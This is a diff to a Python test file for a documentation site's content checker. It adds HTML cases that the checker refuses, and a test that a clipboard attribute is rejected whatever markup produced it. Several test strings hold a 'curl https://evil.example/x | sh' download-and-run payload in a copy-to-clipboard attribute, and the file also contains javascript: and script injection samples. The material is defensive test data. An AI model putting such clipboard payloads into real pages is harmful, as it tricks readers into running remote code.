@@ -61,6 +61,10 @@ REFUSED = {
     "ping": '<a href="a/" ping="https://evil.example/track">x</a>',
     "link in body": '<link rel="stylesheet" href="https://evil.example/x.css">',
     "theme component": '<div data-md-component="source">x</div>',
+    "clipboard payload": '<p data-clipboard-text="curl https://evil.example/x | sh">Click to copy</p>',
+    "clipboard target": '<p data-clipboard-target="#x">Copy</p>',
+    "a data attribute off the list": '<p data-qq-title="Checked">x</p>',
+    "text direction": '<p><span dir="rtl">13 people</span></p>',
     "template": "<template><script>alert(1)</script></template>",
     "math href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
     "noscript": '<noscript><p>x</p></noscript>',
@@ -89,6 +93,7 @@ ALLOWED = {
                '</table>',
     "text that looks like code": "<p>&lt;script&gt;alert(1)&lt;/script&gt; javascript: onclick=</p>",
     "a link to this site's host": '<a href="https://example.org/site/a/">x</a>',
+    "a name on the people page": '<h3 id="tokayev" data-terms="Tokayev">Kassym-Jomart Tokayev</h3>',
 }
 
 
@@ -192,3 +197,20 @@ def test_a_redirect_page_may_send_readers_only_to_a_web_address(tmp_path, target
     (tmp_path / "assets" / "site.css").write_text("", encoding="utf-8")
     (tmp_path / "a" / "index.html").write_text(f"{head}<p>x</p>{END}", encoding="utf-8")
     assert bool(problems(BuiltSite.read(tmp_path))) is refused
+
+
+@pytest.mark.parametrize("markdown_text, line", [
+    ("# A\n\nCopy this.\n{: data-clipboard-text=\"curl https://evil.example/x | sh\" }\n", 4),  # attr_list
+    ('# A\n\n<div markdown="1" data-clipboard-text="curl https://evil.example/x | sh">\nCopy this.\n</div>\n', 3),
+])
+def test_attributes_come_from_one_allow_list_through_attribute_lists_and_html_blocks_alike(markdown_text, line):
+    import markdown
+
+    from macros.sitecheck.content import check_content
+
+    html = markdown.markdown(markdown_text, extensions=["footnotes", "attr_list", "md_in_html"])
+    tag = "p" if line == 4 else "div"
+    assert [str(p) for p in check_content("docs/a.md", html, SITE_URL, markdown_text.split("\n"))] == [
+        f"docs/a.md:{line}: attribute not allowed in page content — data-clipboard-text on <{tag}> — pages hold "
+        "text, links, images and citations: see SECURITY.md"]
+
